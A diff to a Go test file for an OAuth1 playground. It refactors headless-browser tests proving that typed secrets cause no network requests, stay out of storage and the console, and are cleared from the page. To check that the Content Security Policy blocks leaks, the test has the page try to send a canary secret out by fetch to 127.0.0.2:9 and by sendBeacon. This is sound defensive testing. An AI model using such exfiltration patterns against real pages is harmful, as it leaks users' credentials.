@@ -2,8 +2,16 @@
 
 package main
 
+// The proof behind the warning banner's claims, in headless Chromium: no
+// network request after the page has loaded, exfiltration refused by the
+// CSP, nothing stored, nothing secret on the console, nothing secret left
+// after Clear. Each "nothing" is trusted only after the same recorder has
+// seen something: the page's own load, a probe line on the console.
+
 import (
 	"context"
+	"iter"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -36,74 +44,124 @@ func (l *netLog) snapshot() (requests, blocked []string) {
 	return append([]string(nil), l.requests...), append([]string(nil), l.blocked...)
 }
 
+// record collects, in a goroutine, the lines that lines makes of each
+// event of events into *into, under mu, until the events end.
+func record[E any](events iter.Seq2[E, error], mu *sync.Mutex, into *[]string, lines func(E) []string) {
+	go func() {
+		for ev, err := range events {
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			*into = append(*into, lines(ev)...)
+			mu.Unlock()
+		}
+	}()
+}
+
+// watchNetwork records the requests of ctx's target from now on.
 func watchNetwork(ctx context.Context, t *testing.T) *netLog {
 	t.Helper()
 	l := &netLog{}
-	sent := chromedp.Events(ctx, network.RequestWillBeSent)
-	failed := chromedp.Events(ctx, network.LoadingFailed)
-	go func() {
-		for ev, err := range sent {
-			if err != nil {
-				return
-			}
-			l.mu.Lock()
-			l.requests = append(l.requests, ev.Request.URL)
-			l.mu.Unlock()
-		}
-	}()
-	go func() {
-		for ev, err := range failed {
-			if err != nil {
-				return
-			}
-			l.mu.Lock()
-			l.blocked = append(l.blocked, string(ev.BlockedReason))
-			l.mu.Unlock()
-		}
-	}()
+	record(chromedp.Events(ctx, network.RequestWillBeSent), &l.mu, &l.requests, func(ev network.EventRequestWillBeSent) []string {
+		return []string{ev.Request.URL}
+	})
+	record(chromedp.Events(ctx, network.LoadingFailed), &l.mu, &l.blocked, func(ev network.EventLoadingFailed) []string {
+		return []string{string(ev.BlockedReason)}
+	})
 	_, err := chromedp.Call(ctx, network.Enable, network.EnableParams{})
 	require.NoError(t, err)
 	return l
 }
 
-// TestPrivacy is the proof behind the warning banner's claims: after the
+// assertRecordedLoad checks that the log saw the page load (the document
+// at doc and its module script, the signer and wasm_exec.js, all from
+// base) and nothing from elsewhere, so that a count of zero requests after
+// it means the page made none, not that the recorder missed them. It
+// returns how many requests the load made.
+func assertRecordedLoad(t *testing.T, l *netLog, base, doc, script string) int {
+	t.Helper()
+	loaded, _ := l.snapshot()
+	for _, u := range loaded {
+		assert.True(t, strings.HasPrefix(u, base), "the page loaded something from elsewhere: %s", u)
+	}
+	for _, want := range []string{base + doc, base + script, base + "signer-lite.wasm.js", base + "wasm_exec.js"} {
+		require.Contains(t, loaded, want, "the recorder did not see the page's own load, so it cannot vouch for zero requests after it")
+	}
+	return len(loaded)
+}
+
+// consoleLog records every console API call of ctx's target.
+type consoleLog struct {
+	mu    sync.Mutex
+	lines []string
+}
+
+// watchConsole records the console of ctx's target from now on.
+func watchConsole(ctx context.Context) *consoleLog {
+	c := &consoleLog{}
+	record(chromedp.Events(ctx, runtime.ConsoleAPICalled), &c.mu, &c.lines, func(ev runtime.EventConsoleAPICalled) []string {
+		var lines []string
+		for _, arg := range ev.Args {
+			lines = append(lines, string(arg.Value)+" "+arg.Description)
+		}
+		return lines
+	})
+	return c
+}
+
+// snapshot returns the lines recorded so far.
+func (c *consoleLog) snapshot() []string {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return append([]string(nil), c.lines...)
+}
+
+// probe logs a marker line through the page's own console and waits until
+// the recorder has it: only then does an absence in its lines mean
+// something. It returns the lines recorded up to the marker.
+func (c *consoleLog) probe(t *testing.T, ctx context.Context) []string {
+	t.Helper()
+	const marker = "oauth1-playground-test-console-probe"
+	_, err := chromedp.Run(ctx, chromedp.Evaluate[chromedp.Void](`console.log(`+jsStr(marker)+`)`))
+	require.NoError(t, err)
+	var lines []string
+	require.Eventually(t, func() bool {
+		lines = c.snapshot()
+		return slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, marker) })
+	}, 10*time.Second, 50*time.Millisecond, "the console recorder never saw the probe line, so it cannot vouch for an empty console")
+	return lines
+}
+
+// openRecorded starts the server and a browser, records the network and
+// the console of the tab, then loads path (index.html when empty, whose
+// module script is script) and waits for the first signature. It returns
+// the tab, the two recorders and how many requests the load made, having
+// checked with assertRecordedLoad that the recorder saw that load.
+func openRecorded(t *testing.T, path, script string) (context.Context, *netLog, *consoleLog, int) {
+	t.Helper()
+	requireBrowser(t)
+	base := startServer(t)
+	ctx := newBrowser(t)
+	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("about:blank")))
+	console := watchConsole(ctx)
+	netlog := watchNetwork(ctx, t)
+	require.NoError(t, chromedp.Do(ctx,
+		chromedp.Navigate(base+path),
+		chromedp.WaitReady(chromedp.CSS(readySelector)),
+	))
+	doc, _, _ := strings.Cut(path, "#")
+	return ctx, netlog, console, assertRecordedLoad(t, netlog, base, doc, script)
+}
+
+// TestBrowserPrivacy is the proof behind the warning banner's claims: after the
 // page has loaded, typing secrets, signing, verifying, diagnosing and
 // importing makes no network request at all; a fetch, a beacon, an image
 // and a WebSocket aimed elsewhere are blocked by the CSP; nothing is in
 // storage or cookies; no secret reaches the console; after Clear no secret
 // is left in the DOM.
-func TestPrivacy(t *testing.T) {
-	requireBrowser(t)
-	base := startServer(t)
-	ctx := newBrowser(t)
-
-	var consoleMu sync.Mutex
-	var console []string
-	consoleEvents := chromedp.Events(ctx, runtime.ConsoleAPICalled)
-	go func() {
-		for ev, err := range consoleEvents {
-			if err != nil {
-				return
-			}
-			consoleMu.Lock()
-			for _, arg := range ev.Args {
-				console = append(console, string(arg.Value)+" "+arg.Description)
-			}
-			consoleMu.Unlock()
-		}
-	}()
-	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("about:blank")))
-	netlog := watchNetwork(ctx, t)
-
-	require.NoError(t, chromedp.Do(ctx,
-		chromedp.Navigate(base),
-		chromedp.WaitReady(chromedp.CSS(`[data-testid="status"][data-ready]`)),
-	))
-	loaded, _ := netlog.snapshot()
-	for _, u := range loaded {
-		assert.True(t, strings.HasPrefix(u, base), "the page loaded something from elsewhere: %s", u)
-	}
-	before := len(loaded)
+func TestBrowserPrivacy(t *testing.T) {
+	ctx, netlog, console, before := openRecorded(t, "", "app.js")
 
 	// Type secrets and let the page sign with them.
 	waitSigned := `document.querySelector('[data-testid="status"]').dataset.signCount`
@@ -114,15 +172,15 @@ func TestPrivacy(t *testing.T) {
 		require.NoError(t, err)
 		require.NoError(t, chromedp.Do(ctx, chromedp.SendKeys(testid(id), secret)))
 	}
-	_, err = chromedp.Run(ctx, chromedp.Poll[bool](waitSigned+` !== `+jsString(count)+` && document.querySelector('[data-testid="signature"]').textContent !== `+jsString(xSignature),
+	_, err = chromedp.Run(ctx, chromedp.Poll[bool](waitSigned+` !== `+jsStr(count)+` && document.querySelector('[data-testid="signature"]').textContent !== `+jsStr(xSignature),
 		chromedp.WithPollingTimeout(10*time.Second)))
 	require.NoError(t, err, "the page did not sign with the typed secrets")
 
 	// Every other entry point, through the JS API the page exposes.
 	used, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => {
 		const req = { method: 'POST', url: 'https://api.x.com/1.1/statuses/update.json?include_entities=true',
-			consumerKey: 'xvz1evFS4wEEPTGEFPHBog', consumerSecret: `+jsString(canaryConsumer)+`,
-			token: '370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb', tokenSecret: `+jsString(canaryToken)+`,
+			consumerKey: 'xvz1evFS4wEEPTGEFPHBog', consumerSecret: `+jsStr(canaryConsumer)+`,
+			token: '370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb', tokenSecret: `+jsStr(canaryToken)+`,
 			nonce: 'n', timestamp: '1', signature: 'Il5C7oPhfqV+nSqa3WoH4988Ll0=' };
 		const signed = oauth1.sign(req);
 		const checks = [signed, oauth1.verify(req), oauth1.diagnose(req), oauth1.parse(signed.curl)];
@@ -139,7 +197,7 @@ func TestPrivacy(t *testing.T) {
 		const out = {};
 		const violations = [];
 		document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
-		const s = encodeURIComponent(`+jsString(canaryConsumer)+`);
+		const s = encodeURIComponent(`+jsStr(canaryConsumer)+`);
 		try { await fetch('http://127.0.0.2:9/?s=' + s); out.fetch = 'sent' } catch (e) { out.fetch = 'blocked' }
 		try { await fetch('/?s=' + s); out.fetchSelf = 'sent' } catch (e) { out.fetchSelf = 'blocked' }
 		navigator.sendBeacon('/beacon?s=' + s, s); // returns true; the CSP blocks it after
@@ -188,12 +246,10 @@ func TestPrivacy(t *testing.T) {
 	assert.Equal(t, "0,0,0,0,0", storage, "localStorage, sessionStorage, cookies, IndexedDB, Cache Storage")
 
 	// Nothing secret on the console.
-	consoleMu.Lock()
-	for _, line := range console {
+	for _, line := range console.probe(t, ctx) {
 		assert.NotContains(t, line, canaryConsumer)
 		assert.NotContains(t, line, canaryToken)
 	}
-	consoleMu.Unlock()
 
 	// After Clear, no secret anywhere in the DOM or in any input.
 	require.NoError(t, chromedp.Do(ctx, chromedp.Click(testid("clear"))))
@@ -206,22 +262,10 @@ func TestPrivacy(t *testing.T) {
 	assert.NotContains(t, left, canaryToken)
 }
 
-// TestPrivacyEmbed opens the docs embed on its own, types a secret into it
+// TestBrowserPrivacyEmbed opens the docs embed on its own, types a secret into it
 // and lets it re-sign: no request follows the load.
-func TestPrivacyEmbed(t *testing.T) {
-	requireBrowser(t)
-	base := startServer(t)
-	ctx := newBrowser(t)
-	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("about:blank")))
-	netlog := watchNetwork(ctx, t)
-	require.NoError(t, chromedp.Do(ctx,
-		chromedp.Navigate(base+"embed.html#preset=x-creating-a-signature"),
-		chromedp.WaitReady(chromedp.CSS(`[data-testid="status"][data-ready]`)),
-	))
-	loaded, _ := netlog.snapshot()
-	for _, u := range loaded {
-		assert.True(t, strings.HasPrefix(u, base), "the embed loaded something from elsewhere: %s", u)
-	}
+func TestBrowserPrivacyEmbed(t *testing.T) {
+	ctx, netlog, _, loaded := openRecorded(t, "embed.html#preset=x-creating-a-signature", "embed.js")
 	count, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('[data-testid="status"]').dataset.signCount`))
 	require.NoError(t, err)
 	require.NoError(t, chromedp.Do(ctx,
@@ -229,9 +273,9 @@ func TestPrivacyEmbed(t *testing.T) {
 		chromedp.WaitVisible(testid("input-consumerSecret")),
 		chromedp.SendKeys(testid("input-consumerSecret"), canaryConsumer),
 	))
-	_, err = chromedp.Run(ctx, chromedp.Poll[bool](`document.querySelector('[data-testid="status"]').dataset.signCount !== `+jsString(count),
+	_, err = chromedp.Run(ctx, chromedp.Poll[bool](`document.querySelector('[data-testid="status"]').dataset.signCount !== `+jsStr(count),
 		chromedp.WithPollingTimeout(10*time.Second)))
 	require.NoError(t, err, "the embed did not sign with the typed secret")
 	after, _ := netlog.snapshot()
-	assert.Equal(t, len(loaded), len(after), "requests after the embed loaded: %v", after[len(loaded):])
+	assert.Equal(t, loaded, len(after), "requests after the embed loaded: %v", after[loaded:])
 }
